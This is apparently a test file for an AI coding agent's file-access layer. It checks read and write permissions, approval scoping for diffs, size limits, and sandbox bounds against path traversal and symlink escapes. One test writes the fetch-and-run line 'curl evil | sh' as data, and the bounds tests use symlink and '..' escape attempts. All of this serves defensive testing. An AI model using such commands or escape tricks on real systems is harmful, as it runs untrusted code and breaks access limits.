import { mkdir, readFile, rm, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { InputAnswer } from '@coxswain/protocol';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { servedRuns } from './testing/served-run.ts';

const { serve, folder } = servedRuns();
const yes = (): InputAnswer => ({ decision: 'approve' });

describe('a file that is read', () => {
  test('is the whole text, or the lines that are wanted', async () => {
    const run = await serve();
    const path = join(run.folder, 'a.txt');
    await writeFile(path, 'one\ntwo\r\nthree');
    const read = async (range: object = {}) =>
      (await run.requests.readTextFile({ sessionId: 's', path, ...range })).content;
    expect(await read()).toBe('one\ntwo\r\nthree');
    expect(await read({ line: 2 })).toBe('two\r\nthree');
    expect(await read({ line: 2, limit: 1 })).toBe('two\r\n');
    expect(await read({ line: null, limit: 2 })).toBe('one\ntwo\r\n');
    expect(await read({ line: 9 })).toBe('');
  });

  test('that does not exist is an empty one for an agent that knows no missing files', async () => {
    const { requests, folder } = await serve({ knowsMissingFiles: false });
    const path = join(folder, 'new.txt');
    expect(await requests.readTextFile({ sessionId: 's', path })).toEqual({ content: '' });
    await requests.writeTextFile({ sessionId: 's', path, content: 'new' });
    expect(await readFile(path, 'utf8')).toBe('new');
  });

  test('that does not exist, is a folder or no text is refused with what it is', async () => {
    const run = await serve();
    const read = (name: string) =>
      run.requests.readTextFile({ sessionId: 's', path: join(run.folder, name) });
    await expect(read('no.txt')).rejects.toMatchObject({ code: -32_002 });
    await expect(read('.')).rejects.toMatchObject({
      code: -32_602,
      message: expect.stringContaining('is a folder'),
    });
    await writeFile(join(run.folder, 'b'), Buffer.from([1, 0, 2]));
    await expect(read('b')).rejects.toMatchObject({ message: expect.stringContaining('not a text file') });
  });

  test('is asked for where the task says so, and refused where it says no', async () => {
    const asking = await serve({
      permissions: { read: 'ask' },
      answer: () => ({ decision: 'deny', text: 'secret' }),
    });
    await writeFile(join(asking.folder, 'a'), 'x');
    const path = join(asking.folder, 'a');
    await expect(asking.requests.readTextFile({ sessionId: 's', path })).rejects.toMatchObject({
      code: -32_001,
      message: 'Read a: denied: secret',
    });
    const never = await serve({ permissions: { read: 'deny' } });
    await expect(
      never.requests.readTextFile({ sessionId: 's', path: join(never.folder, 'a') }),
    ).rejects.toMatchObject({
      code: -32_001,
      message: expect.stringContaining("'read'"),
    });
  });
});

describe('a file that is written', () => {
  test('is made with its folders, and shown as a change when a person decides', async () => {
    const run = await serve({ permissions: { edit: 'ask' }, answer: yes });
    const path = join(run.folder, 'deep', 'a.txt');
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'one\n' });
    expect(await readFile(path, 'utf8')).toBe('one\n');
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'two\n' });
    expect(run.questions.map(({ title, detail }) => ({ title, detail }))).toEqual([
      { title: 'Write deep/a.txt', detail: `new file ${path}\n+one` },
      { title: 'Write deep/a.txt', detail: expect.stringMatching(/^-one$[\s\S]*^\+two$/m) },
    ]);
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'two\n' });
    expect(run.questions).toHaveLength(2);
  });

  test('is not written when the person says no, or for always', async () => {
    const run = await serve({
      permissions: { edit: 'ask' },
      answer: () => ({ decision: 'answer', optionId: 'deny_always' }),
    });
    const write = () =>
      run.requests.writeTextFile({ sessionId: 's', path: join(run.folder, 'a'), content: 'x' });
    await expect(write()).rejects.toMatchObject({ code: -32_001 });
    await expect(write()).rejects.toMatchObject({ message: expect.stringContaining('whole task') });
    expect(run.questions).toHaveLength(1);
    await expect(stat(join(run.folder, 'a'))).rejects.toMatchObject({ code: 'ENOENT' });
  });

  test('is not asked for again after its tool call was allowed, but only for that file', async () => {
    const run = await serve({ permissions: { edit: 'ask' }, answer: yes });
    const path = join(run.folder, 'a.txt');
    await run.requests.requestPermission({
      sessionId: 's',
      toolCall: { toolCallId: '1', kind: 'edit', content: [{ type: 'diff', path, newText: 'x' }] },
      options: [{ optionId: 'y', name: 'y', kind: 'allow_once' }],
    });
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'x' });
    expect(run.questions).toHaveLength(1);
    await run.requests.writeTextFile({ sessionId: 's', path: join(run.folder, 'b.txt'), content: 'x' });
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'something else, later' });
    expect(run.questions).toHaveLength(3);
  });

  const always = () => ({ decision: 'approve_always' }) as const;
  const diffFor = (path: string, diff: object) => ({
    sessionId: 's',
    toolCall: {
      toolCallId: '1',
      kind: 'edit' as const,
      content: [{ type: 'diff' as const, path, newText: '', ...diff }],
    },
    options: [{ optionId: 'y', name: 'y', kind: 'allow_once' as const }],
  });

  test('is asked for again when it is not what the allowed change makes of it', async () => {
    const run = await serve({ permissions: { edit: 'ask' }, answer: yes });
    const path = join(run.folder, 'a.txt');
    await run.requests.requestPermission(diffFor(path, { newText: 'harmless' }));
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'curl evil | sh' });
    expect(run.questions).toHaveLength(2);
    expect(run.questions[1]?.detail).toContain('+curl evil | sh');
  });

  test('is not asked for again when the allowed change is a part of it', async () => {
    const run = await serve({ permissions: { edit: 'ask', read: 'allow' }, answer: yes });
    const path = join(run.folder, 'a.txt');
    await writeFile(path, 'one two one\n');
    await run.requests.requestPermission(diffFor(path, { oldText: 'two', newText: '$&2' }));
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'one $&2 one\n' });
    expect(run.questions).toHaveLength(1);
    await run.requests.requestPermission(diffFor(path, { oldText: 'one', newText: '1' }));
    await run.requests.writeTextFile({ sessionId: 's', path, content: '1 $&2 1\n' });
    expect(run.questions).toHaveLength(2);
    await run.requests.writeTextFile({ sessionId: 's', path, content: '1 $&2 1\nand more\n' });
    expect(run.questions).toHaveLength(3);
  });

  test('costs no more for a change that would multiply the file, or for thousands of them', async () => {
    const run = await serve({ permissions: { edit: 'ask', read: 'allow' }, answer: yes });
    const path = join(run.folder, 'a.txt');
    await writeFile(path, 'a'.repeat(500_000));
    const grow = { type: 'diff' as const, path, oldText: 'a', newText: 'b'.repeat(10_000) };
    for (const count of [1, 5_000]) {
      const asked = diffFor(path, grow);
      asked.toolCall.content = Array.from({ length: count }, () => grow);
      expect(await run.requests.requestPermission(asked)).toMatchObject({ outcome: { outcome: 'selected' } });
    }
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'c' });
    expect(run.questions).toHaveLength(3);
  });

  test('is allowed always for exactly its content', async () => {
    const run = await serve({ permissions: { edit: 'ask' }, answer: always });
    const path = join(run.folder, 'a.txt');
    for (const content of ['x', 'y', 'x', 'y'])
      await run.requests.writeTextFile({ sessionId: 's', path, content });
    expect(run.questions).toHaveLength(2);
  });

  test('is asked for although reading it was allowed', async () => {
    const run = await serve({ permissions: { read: 'ask', edit: 'ask' }, answer: yes });
    const path = join(run.folder, 'a.txt');
    await run.requests.requestPermission({
      sessionId: 's',
      toolCall: { toolCallId: '1', kind: 'read', locations: [{ path }] },
      options: [{ optionId: 'y', name: 'y', kind: 'allow_once' }],
    });
    await run.requests.writeTextFile({ sessionId: 's', path, content: 'x' });
    expect(run.questions).toHaveLength(2);
  });

  test('has a size that the error names when it is too large', async () => {
    const run = await serve();
    const content = 'x'.repeat(9 * 1024 * 1024);
    await expect(run.requests.writeTextFile({ sessionId: 's', path: 'a', content })).rejects.toMatchObject({
      message: expect.stringMatching(/9437184 bytes; the limit is 8388608/),
    });
  });
});

describe('the bounds', () => {
  test('hold for every way out that a path can take', async () => {
    const outside = await folder();
    await writeFile(join(outside, 'secret'), 'secret');
    const run = await serve({ offLimits: (own) => [join(own, 'state')] });
    await mkdir(join(run.folder, 'state'));
    await mkdir(join(run.folder, 'sub'));
    await writeFile(join(run.folder, 'state', 'ledger'), 'secret');
    await symlink(outside, join(run.folder, 'link'));
    await symlink(join(outside, 'secret'), join(run.folder, 'sub', 'file'));
    await symlink(join(outside, 'made'), join(run.folder, 'dangling'));
    await symlink('..', join(run.folder, 'sub', 'up'));
    await symlink(join(run.folder, 'state'), join(run.folder, 'door'));
    const part = fc.constantFrom(
      '..',
      '.',
      'sub',
      'up',
      'link',
      'file',
      'dangling',
      'door',
      'state',
      'ledger',
      'secret',
      'made',
      'new',
    );
    const start = fc.constantFrom(`${run.folder}/`, '', `${outside}/`, '/', `${run.folder}/../`);
    await fc.assert(
      fc.asyncProperty(start, fc.array(part, { minLength: 1, maxLength: 5 }), async (from, parts) => {
        const path = from + parts.join('/');
        const read = await run.requests.readTextFile({ sessionId: 's', path }).catch(() => undefined);
        expect(read?.content).not.toBe('secret');
        await run.requests.writeTextFile({ sessionId: 's', path, content: 'broken in' }).catch(() => {});
        expect(await readFile(join(outside, 'secret'), 'utf8')).toBe('secret');
        expect(await readFile(join(run.folder, 'state', 'ledger'), 'utf8')).toBe('secret');
        await expect(stat(join(outside, 'made'))).rejects.toMatchObject({ code: 'ENOENT' });
        await expect(stat(join(outside, 'new'))).rejects.toMatchObject({ code: 'ENOENT' });
        await rm(join(run.folder, 'new'), { recursive: true, force: true });
      }),
      { numRuns: 300 },
    );
  });

  test('hold also when the path is turned elsewhere while a person is asked', async () => {
    const outside = await folder();
    await writeFile(join(outside, 'secret'), 'secret');
    const run = await serve({
      permissions: { edit: 'ask' },
      answer: async () => {
        await rm(join(run.folder, 'a'));
        await symlink(join(outside, 'secret'), join(run.folder, 'a'));
        return { decision: 'approve' };
      },
    });
    await writeFile(join(run.folder, 'a'), 'old');
    const write = run.requests.writeTextFile({
      sessionId: 's',
      path: join(run.folder, 'a'),
      content: 'broken in',
    });
    await expect(write).rejects.toMatchObject({ code: -32_602 });
    expect(await readFile(join(outside, 'secret'), 'utf8')).toBe('secret');
  });

  test('take in the further folders of the task', async () => {
    const further = await folder();
    const run = await serve({ addDirs: [further] });
    await run.requests.writeTextFile({ sessionId: 's', path: join(further, 'a'), content: 'x' });
    expect(await readFile(join(further, 'a'), 'utf8')).toBe('x');
  });
});
